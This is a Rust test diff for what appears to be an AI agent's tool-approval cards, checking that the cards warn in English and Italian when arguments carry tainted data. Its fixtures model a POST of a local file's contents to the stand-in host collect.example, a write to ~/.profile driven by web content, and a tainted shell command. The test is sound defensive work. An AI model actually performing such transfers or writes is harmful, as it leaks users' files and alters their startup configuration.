@@ -546,4 +546,64 @@ mod tests {
                 .ends_with("⚠ text carrying content from an earlier step")
         );
     }
+
+    #[test]
+    fn a_card_says_where_the_worlds_data_came_from_in_each_language() {
+        let tainted = vec![(
+            "body".to_owned(),
+            vec![
+                "scratchpad:ab".to_owned(),
+                "file:~/Documents/report.txt".to_owned(),
+            ],
+        )];
+        let args = serde_json::json!({"url": "https://collect.example/in", "method": "POST", "body": "salary"});
+        let d = describe(
+            "web_fetch",
+            "https://collect.example/in",
+            &args.to_string(),
+            &["body".to_owned()],
+            &tainted,
+            Language::English,
+            Path::new("/home/roberto"),
+        );
+        assert_eq!(
+            d.summary,
+            "POST collect.example/in — sends 6 B of data ⚠ body contains text from your file ~/Documents/report.txt"
+        );
+        let d = describe(
+            "fs_write",
+            "~/.profile",
+            r#"{"path":"~/.profile","content":"x"}"#,
+            &[],
+            &[("path".to_owned(), vec!["web:news.example.com".to_owned()])],
+            Language::Italian,
+            Path::new("/home/roberto"),
+        );
+        assert!(
+            d.summary
+                .ends_with("⚠ path contiene testo dalla pagina web news.example.com"),
+            "{}",
+            d.summary
+        );
+        // A source a card cannot name still warns.
+        let d = describe(
+            "shell_exec",
+            "",
+            r#"{"command":"sh x"}"#,
+            &[],
+            &[("command".to_owned(), vec!["person".to_owned()])],
+            Language::English,
+            Path::new("/home/roberto"),
+        );
+        assert!(
+            d.summary
+                .ends_with("⚠ command carrying content from an earlier step"),
+            "{}",
+            d.summary
+        );
+        assert_eq!(
+            reason_tainted(Language::English),
+            "Why: it carries data this turn read; always asked"
+        );
+    }
 }
